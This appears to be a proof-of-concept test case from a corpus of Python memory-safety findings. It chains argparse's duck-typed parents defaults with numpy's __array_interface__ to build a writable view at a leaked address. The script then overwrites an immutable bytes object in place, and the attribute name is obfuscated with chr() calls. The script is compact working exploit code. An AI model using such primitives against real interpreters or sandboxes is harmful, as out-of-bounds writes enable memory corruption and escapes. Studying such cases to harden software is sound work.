# source: CPython argparse.ArgumentParser.__init__ (parents=: _add_container_actions(parent) and self._defaults.update(parent._defaults), duck-typed) and parse_known_args (setattr(namespace, dest, default)); numpy array coercion reading __array_interface__ off the instance (PyArray_FromInterface)
# family: argparse parents= duck-typed _defaults -> Namespace.__array_interface__ with a writable |u1 view at an address leaked by an object array's bytes
# goal: writes memory out of bounds: overwrites the contents of an immutable bytes object in place
import argparse
import numpy as np

u = chr(95) * 2
frozen = bytes([104, 101, 108, 108, 111, 32, 119, 111, 114, 108, 100])
where = int.from_bytes(np.array([frozen], dtype=object).tobytes(), "little")
spec = {"data": (where + 32, False), "shape": (11,), "typestr": "|u1", "version": 3}


class Parent:
    def __init__(self):
        self._action_groups = []
        self._mutually_exclusive_groups = []
        self._actions = []
        self._defaults = {u + "array" + chr(95) + "interface" + u: spec}


p = argparse.ArgumentParser(parents=[Parent()])
ns = p.parse_args([])
view = np.asarray(ns)
print("before:", frozen)
view[:5] = [80, 87, 78, 69, 68]
print("after: ", frozen, "(an immutable bytes object written in place)")
